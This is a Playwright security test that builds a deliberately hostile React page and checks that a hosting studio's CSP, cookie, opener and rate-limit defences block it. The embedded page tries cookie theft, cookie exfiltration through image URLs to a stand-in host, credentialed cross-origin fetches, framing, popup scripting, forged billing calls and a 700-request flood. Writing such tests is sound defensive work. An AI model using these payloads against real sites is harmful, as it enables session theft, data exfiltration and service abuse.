// A hostile blank, published through the studio the normal way, attacks from inside the live app in
// Chromium: it signs a user up and then tries to read the session, reach the studio, another app and
// loopback, register a service worker, start workers, eval, frame the studio, open a popup it can
// script, and send data out through image and CSS URLs. Each attempt's outcome is written into the
// page; the test also watches the network, so a request the page thinks failed but that left the
// browser still counts as a leak.
import { createApp, expect, publish, saveFiles, test } from "./fixtures";

/** The blank: runs every attempt once on mount and prints { name: "blocked: …" | "LEAKED: …" }. */
function hostileIntro(targets: { studio: string; otherApp: string; loopback: string; exfil: string }): string {
  return `import { useEffect, useState } from "react";

const T = ${JSON.stringify(targets)};

async function attempt(name, fn, out) {
  try {
    const leaked = await fn();
    out[name] = leaked ? "LEAKED: " + String(leaked).slice(0, 200) : "blocked";
  } catch (e) {
    out[name] = "blocked: " + (e && e.name ? e.name : String(e));
  }
}

const fetched = async (url) => {
  const res = await fetch(url, { credentials: "include" });
  return res.status + " " + (await res.text()).slice(0, 100);
};

async function attack() {
  const out = {};
  const violations = [];
  document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
  const signup = await fetch("/_api/auth/signup", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ email: "victim-" + Math.random().toString(36).slice(2) + "@example.com", password: "correct horse battery staple" }),
  });
  out.signup = String(signup.status);
  out.cookieJar = document.cookie;
  out.storage = JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage });
  await attempt("T23 session readable from document.cookie", () => /session/i.test(document.cookie) && document.cookie, out);
  await attempt("T13 fetch the studio with credentials", () => fetched(T.studio + "/api/apps"), out);
  await attempt("T13 fetch another app's API with credentials", () => fetched(T.otherApp + "/_api/auth/me"), out);
  await attempt("T13 fetch loopback", () => fetched(T.loopback + "/"), out);
  await attempt("T30 register a service worker", async () => {
    const reg = await navigator.serviceWorker.register("/sw.js");
    return "registered " + reg.scope;
  }, out);
  await attempt("T30 start a worker from a blob", () => new Promise((resolve, reject) => {
    const w = new Worker(URL.createObjectURL(new Blob(["postMessage('ran')"], { type: "text/javascript" })));
    w.onmessage = (e) => resolve("worker said " + e.data);
    w.onerror = () => reject(new Error("worker refused"));
    setTimeout(() => reject(new Error("worker never ran")), 3000);
  }), out);
  await attempt("T02 eval", () => "eval gave " + (0, globalThis["ev" + "al"])("6*7"), out);
  await attempt("T02 new Function", () => "Function gave " + new Function("return 6*7")(), out);
  await attempt("T33 frame the studio", () => new Promise((resolve, reject) => {
    const f = document.createElement("iframe");
    f.src = T.studio + "/";
    f.onload = () => {
      try { resolve(f.contentDocument ? "studio document readable: " + f.contentDocument.title : ""); }
      catch (e) { reject(e); }
    };
    document.body.appendChild(f);
    setTimeout(() => resolve(""), 3000);
  }), out);
  await attempt("T29 script a popup of the studio", async () => {
    const w = window.open(T.studio + "/", "_blank");
    if (!w) return "";
    // Until it navigates, a popup holds the opener's about:blank; the studio is what is attacked.
    await new Promise((r) => setTimeout(r, 2000));
    out.popupHandle = w.closed ? "severed" : "open";
    if (w.closed) return "";
    return "popup document: " + w.document.title + " at " + w.location.href;
  }, out);
  await attempt("T01 exfiltrate by image URL", () => new Promise((resolve) => {
    const img = new Image();
    img.onload = () => resolve("image loaded");
    img.onerror = () => resolve("");
    img.src = T.exfil + "/img?c=" + encodeURIComponent(document.cookie);
  }), out);
  await attempt("T01 exfiltrate by CSS url()", () => new Promise((resolve) => {
    const s = document.createElement("style");
    s.textContent = "body { background-image: url(" + T.exfil + "/css?c=1) }";
    document.head.appendChild(s);
    setTimeout(() => resolve(""), 1500);
  }), out);
  await attempt("T05 grant itself the paid plan from the browser", async () => {
    const json = { method: "POST", headers: { "content-type": "application/json" }, credentials: "include" };
    const tries = [
      await fetch("/_api/collections/subscriptions", { ...json, body: JSON.stringify({ plan: "pro", status: "active" }) }),
      await fetch("/_api/auth/me", { ...json, method: "PATCH", body: JSON.stringify({ plan: "pro", entitlements: ["pro"] }) }),
      await fetch("/_api/billing/checkout", { ...json, body: JSON.stringify({ plan: "pro", price: 0, success: true }) }),
    ];
    const me = await (await fetch("/_api/auth/me", { credentials: "include" })).json();
    const granted = JSON.stringify(me).includes('"pro"') && JSON.stringify(me.entitlements ?? []).includes("pro");
    return granted ? "entitlements now " + JSON.stringify(me.entitlements) + " after " + tries.map((r) => r.status) : "";
  }, out);
  // Last: the flood spends this user's minute of requests.
  await attempt("T48 flood the API with 700 requests at once", async () => {
    const statuses = await Promise.all(
      Array.from({ length: 700 }, () => fetch("/_api/collections/slots?limit=1", { credentials: "include" }).then((r) => r.status, () => 0)),
    );
    const count = (s) => statuses.filter((x) => x === s).length;
    out.flood = "200×" + count(200) + " 429×" + count(429);
    const odd = statuses.filter((x) => x !== 200 && x !== 429);
    return count(429) === 0 || odd.length > 0 ? "not limited: " + out.flood + " other " + odd.slice(0, 5) : "";
  }, out);
  out.violations = [...new Set(violations)].sort().join(",");
  return out;
}

export default function Intro() {
  const [report, setReport] = useState(null);
  useEffect(() => { attack().then(setReport); }, []);
  return (
    <section className="intro">
      <h1>Book a one-to-one session</h1>
      <pre data-testid="hostile-report">{report ? JSON.stringify(report) : "running"}</pre>
    </section>
  );
}
`;
}

test("T01, T02, T05, T13, T23, T29, T30, T33, T48: a hostile blank, published, attacks from the live app and is stopped", async ({
  page,
  app,
  context,
  baseURL,
  shot,
}) => {
  const request = context.request;
  test.setTimeout(240_000);
  const port = new URL(baseURL!).port;
  const other = await createApp(request, baseURL!);
  const targets = {
    studio: `http://localhost:${port}`,
    otherApp: other.origin,
    loopback: `http://127.0.0.1:${port}`,
    exfil: `http://exfil-${app.slug}.localhost:${port}`,
  };
  await saveFiles(request, app.slug, { "src/blanks/Intro.tsx": hostileIntro(targets) });
  await publish(request, app.slug);

  // Every request the page sends, whatever the page's code concludes about it.
  // Chromium reports a request CSP stopped (an image, a CSS url()) as sent, then failed with "csp".
  const sent: string[] = [];
  const stopped = new Set<string>();
  page.on("request", (r) => sent.push(r.url()));
  page.on("requestfailed", (r) => {
    if (/^csp$|ERR_BLOCKED_BY_CSP/i.test(r.failure()?.errorText ?? "")) stopped.add(r.url());
  });
  const popups: string[] = [];
  context.on("page", (p) => popups.push(p.url()));

  await page.goto(app.origin);
  const report = page.getByTestId("hostile-report");
  await expect(report).not.toHaveText("running", { timeout: 60_000 });
  const outcome = JSON.parse((await report.textContent()) ?? "{}") as Record<string, string>;
  await shot("01-hostile-app-report");

  expect(outcome.signup, "the blank could sign a user up (so there is a session to steal)").toBe("201");
  const session = (await context.cookies(app.origin)).find((c) => /session/.test(c.name));
  expect(session?.httpOnly).toBe(true);
  expect(outcome.cookieJar).not.toContain(session!.value);
  expect(outcome.storage).not.toContain(session!.value);

  const attempts = Object.entries(outcome).filter(([name]) => /^T\d\d /.test(name));
  expect(attempts.length).toBe(14);
  for (const [name, result] of attempts) expect(result, name).toMatch(/^blocked/);

  // CSP refused these before any byte left the browser.
  for (const directive of ["connect-src", "img-src", "frame-src", "worker-src"]) {
    expect(outcome.violations, directive).toContain(directive);
  }
  const leaked = sent.filter((url) => {
    const u = new URL(url);
    return u.origin !== app.origin && !["blob:", "data:"].includes(u.protocol) && !stopped.has(url);
  });
  expect(leaked).toEqual([]);
  // Cross-Origin-Opener-Policy: a popup the app opens lives in another browsing context group, so
  // the handle the app got back is closed at once.
  if (popups.length > 0) expect(outcome.popupHandle).toBe("severed");
  console.log(
    `[hostile frontend] ${attempts.length} attempts, ${attempts.length} blocked; CSP: ${outcome.violations}; flood ${outcome.flood}`,
  );
});
